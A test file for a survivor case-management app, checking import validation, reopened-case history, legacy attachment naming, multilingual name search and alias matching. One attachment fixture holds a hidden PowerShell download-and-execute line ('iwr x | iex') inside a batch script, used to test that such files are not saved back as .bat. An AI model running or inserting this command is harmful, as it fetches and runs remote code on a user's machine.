// Defects in the day's core changes (8119ace..a later commit), found by a reviewing helper. Each
// test failed before its fix (the defect is named above it). Real encrypted vaults only. Left open:
// languages with an ISO 639-3 code only (Nuer, Rohingya, Dari), beyond HTCDS's ISO 639-2.
import { describe, expect, it } from 'vitest'
import { ADMIN, call, testVault } from './support/temp-vault'
import { createCase, staffedHost, survivorCase } from './support/case-fixtures'
import { adminSession, importer, json } from './support/import-fixtures'
import { createCaseService } from '../../main/core/cases/case-service'
import type { AttachmentSummary, CaseSearchHit, PerpetratorMatch } from '../../main/api/contract'

type Host = Awaited<ReturnType<typeof staffedHost>>['host']

async function hostWith(first: string, second: string) {
  const { host, dataDir, files } = await staffedHost('dana')
  const survivor = { prs_FirstName: first, prs_SecondName: second }
  const made = await createCase(host, survivorCase({ survivor, survivorAliases: [] }))
  return { host, dataDir, files, id: made.id }
}
const search = (host: Host, query: string) => call<CaseSearchHit[]>(host, 'cases:search', { query })

describe('today’s case rules, through the import', () => {
  // WHAT GOES WRONG: today's rules (a trafficking event in the future, a birthdate making the
  // survivor over 120 at intake, an age when trafficked above the age at intake) are enforced by
  // the forms' API only. An HTCDS import stores all three without a word: event 2099, born 1890,
  // trafficked at 90 while 33 at intake… (the import does apply the intake and born-after-intake rules).
  // WHO IS HURT: the survivor counted in the wrong age band (the 12–17 filter misses a child), the
  // de-identified export calling a child an adult, statistics to donors and CTDC; and the case then
  // carries the bad value for good (an update does not judge a stored value again).
  // CAUSE: main/core/import/case-candidate.ts:202-230 (checkDraft checks bornAfterIntake at :227
  // but never the facts of main/core/cases/case-facts.ts:29 assertCaseFacts, called only from
  // case-prepare.ts:87).
  // FIX: run the same facts in checkDraft as row errors (events.N.hte_Date dateInFuture,
  // survivor.prs_Birthdate, victim.vic_AgeWhenTrafficked), as is done for the intake date.
  it('an import refuses the facts the case forms refuse', async () => {
    const session = await adminSession()
    const base = { intakeDate: '2023-04-05', victim: { vic_TypeOfExploitation: ['ForcedLabour'] } }
    const file = {
      standard: 'HTCDS',
      version: '2.0',
      cases: [
        {
          ...base,
          caseNumber: 'F-1',
          survivor: { prs_FirstName: 'Ana' },
          events: [{ hte_Type: 'Recruitment', hte_Date: '2099-01-01' }],
        },
        { ...base, caseNumber: 'F-2', survivor: { prs_FirstName: 'Ina', prs_Birthdate: '1890-01-01' } },
        {
          ...base,
          caseNumber: 'F-3',
          survivor: { prs_FirstName: 'Eva', prs_Birthdate: '1990-01-01' },
          victim: { vic_TypeOfExploitation: ['ForcedLabour'], vic_AgeWhenTrafficked: 90 },
        },
      ],
    }
    const { report } = await importer(session)(json(file), { format: 'htcds-json', dryRun: false })
    expect(report.imported).toBe(0)
  })
})

describe('a closing reason that reached the vault before today’s timeline rule', () => {
  // WHAT GOES WRONG: closing now writes its reason to the timeline, because a reopen clears the
  // case's closure reason. But a case imported closed (its reason from the file) or closed before
  // this version has its reason only in the case row: the first reopen erases it, with no trace
  // anywhere (timeline, history, audit).
  // WHO IS HURT: the caseworker reopening a migrated or older case loses why and to whom it was
  // closed ("referred to IOM Chisinau for return"): the partner holding the survivor is forgotten.
  // CAUSE: main/core/cases/case-service.ts:301 (reopen sets closure_reason to null) relies on
  // close's timeline entry (:289), which import-repository.ts:83 and older vaults never wrote.
  // FIX: in reopen, when the closure reason is not already on the timeline, add it there first
  // ("Closed: …"), or have the import write it to the timeline (and a migration for older vaults).
  it('reopening an imported closed case keeps why it was closed', async () => {
    const session = await adminSession()
    const reason = 'Referred to IOM Chisinau for a safe return'
    const file = {
      standard: 'HTCDS',
      version: '2.0',
      cases: [
        {
          caseNumber: 'OLD-1',
          intakeDate: '2023-04-05',
          status: 'Closed',
          closureReason: reason,
          survivor: { prs_FirstName: 'Ana', prs_SecondName: 'Moraru' },
        },
      ],
    }
    expect(
      (await importer(session)(json(file), { format: 'htcds-json', dryRun: false })).report.imported,
    ).toBe(1)
    const cases = createCaseService(session)
    const id = session.db.prepare('SELECT id FROM cases').pluck().get() as number
    cases.reopen({ id, version: cases.get(id).version, reason: 'She came back to the shelter' })
    const kept = JSON.stringify(session.db.prepare('SELECT body FROM case_comments').all())
    expect(kept).toContain(reason)
  })
})

describe('attachments stored before today', () => {
  // WHAT GOES WRONG: a text file attached as "statement.bat" before today is stored under that
  // name (the old code stored safeFileName only). Today's rule (the extension follows the content)
  // is applied at upload only: "Save a copy…" still offers statement.bat, which runs on a
  // double-click in Windows Explorer.
  // WHO IS HURT: the caseworker's machine and through it the whole vault (a planted script runs
  // with their rights; survivors' data exfiltrated) — every vault upgraded with such a file.
  // CAUSE: main/api/case-parts.ts:29 suggests the stored fileName; nameForType is called only in
  // add (main/core/cases/attachment-service.ts:120); no migration renames stored rows.
  // FIX: suggest nameForType(fileName, mediaType) in saveAs (and list), or rename in a migration.
  it('Save a copy never hands back an older text attachment as .bat', async () => {
    const { host, dataDir, files, id } = await hostWith('Olena', 'Kovalenko')
    const content = new TextEncoder().encode('@echo off\r\npowershell -w hidden -c "iwr x | iex"\r\n')
    const added = await call<AttachmentSummary>(host, 'attachments:add', {
      caseId: id,
      fileName: 'statement.txt',
      content,
    })
    await call(host, 'vault:lock')
    const older = testVault({ dataDir })
    const { db } = await older.unlock(ADMIN.username, ADMIN.passphrase)
    // As the version before today stored it: safeFileName('statement.bat'), media type text/plain.
    db.prepare("UPDATE attachments SET file_name = 'statement.bat' WHERE id = ?").run(added.id)
    older.lock('user')
    await call(host, 'vault:unlock', { username: ADMIN.username, passphrase: ADMIN.passphrase })
    await call(host, 'attachments:saveAs', { id: added.id })
    expect(files.saved.at(-1)).not.toMatch(/\.bat$/)
  })
})

describe('case search folding', () => {
  // WHAT GOES WRONG: a name typed without its marks ("Ковалева") is found only in the folded
  // column, and snippet(case_search, -1) quotes that column: the hit reads "[[ковалева]]", a
  // lower-case spelling that is not the record, while the commit promises the record as written.
  // WHO IS HURT: the caseworker telling two people apart by the spelling in the results (Ковалёва
  // vs Ковалева are different families' names); a wrong case opened is a survivor's file shown.
  // CAUSE: main/core/cases/case-search.ts:23 (the as-typed alternative is the folded form) with
  // :43/:56 snippet(case_search, -1 …) choosing the 'folded' column of migration 0009.
  // FIX: never snippet the folded column (snippet over names/notes only, e.g. pick column 1 or 2),
  // or map the folded hit back to the written word before highlighting.
  it('the snippet of a name typed without ё quotes the record as written', async () => {
    const { host } = await hostWith('Олена', 'Ковалёва')
    const [hit] = await search(host, 'Ковалева')
    expect(hit!.snippet).toContain('Ковалёва')
  })

  // WHAT GOES WRONG: a lone combining mark in the query (a shadda or fatha pasted with a space
  // before it, a common copy artefact from Arabic documents) folds to an empty word; `""*` matches
  // nothing and is ANDed with the rest, so "فاطمة ّ" finds nobody. Before today marks were
  // separators and the search found her.
  // WHO IS HURT: the caseworker checking whether a survivor is already recorded gets "no case" and
  // records her twice (or concludes she was never helped here).
  // CAUSE: main/core/cases/case-search.ts:19-27 (toFtsQuery keeps a word whose fold is empty).
  // FIX: drop words whose foldForSearch is '' before building the query.
  it('a stray vowel mark in the query does not hide the name typed with it', async () => {
    const { host, id } = await hostWith('فاطمة', 'الزهراء')
    expect((await search(host, 'فاطمة')).map((hit) => hit.id)).toEqual([id])
    expect((await search(host, 'فاطمة \u0651')).map((hit) => hit.id)).toEqual([id])
  })
})

describe('the perpetrator finder’s alias matching', () => {
  // WHAT GOES WRONG: aliases are matched by LIKE over their JSON text, where a quote is \" and a
  // backslash \\: an alias recorded as Misha "Boss" is not offered when typed exactly as recorded.
  // WHO IS HURT: the same trafficker recorded twice (two cases never linked), which the finder
  // exists to prevent; investigations miss the pattern across survivors.
  // CAUSE: main/core/cases/perpetrator-service.ts:101 (search_fold(p.aliases) on the JSON array).
  // FIX: match each alias: EXISTS (SELECT 1 FROM json_each(p.aliases) a WHERE search_fold(a.value) LIKE ?).
  it('finds an alias with quotes as it was recorded', async () => {
    const { host, id } = await hostWith('Olena', 'Kovalenko')
    const person = { prs_FirstName: 'Mikhail', prs_SecondName: 'Sokolov' }
    await call(host, 'perpetrators:add', { caseId: id, person, aliases: ['Misha "Boss"'], context: {} })
    const found = await call<PerpetratorMatch[]>(host, 'perpetrators:find', { query: 'Misha "Boss"' })
    expect(found.map((match) => match.displayName)).toEqual(['Mikhail Sokolov'])
  })
})
